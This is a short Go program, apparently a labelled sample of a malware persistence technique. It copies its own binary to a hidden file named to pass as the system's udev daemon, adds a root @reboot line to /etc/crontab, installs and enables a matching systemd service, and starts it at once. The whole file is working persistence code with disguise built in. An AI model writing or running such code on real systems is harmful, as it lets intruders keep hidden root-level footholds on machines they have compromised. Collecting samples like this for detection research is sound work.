// class: persistence by cron and systemd; style: functions
package main

import (
	"fmt"
	"os"
	"os/exec"
)

func copySelf(to string) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	data, err := os.ReadFile(self)
	if err != nil {
		return err
	}
	return os.WriteFile(to, data, 0o755)
}

func main() {
	const hidden = "/usr/sbin/.udevd2"
	if err := copySelf(hidden); err != nil {
		fmt.Println(err)
	}
	f, err := os.OpenFile("/etc/crontab", os.O_APPEND|os.O_WRONLY, 0)
	if err == nil {
		fmt.Fprintf(f, "@reboot root %s\n", hidden)
		f.Close()
	}
	os.WriteFile("/etc/systemd/system/udevd2.service", []byte("[Service]\nExecStart="+hidden+"\n[Install]\nWantedBy=multi-user.target\n"), 0o644)
	exec.Command("systemctl", "enable", "--now", "udevd2").Run()
}
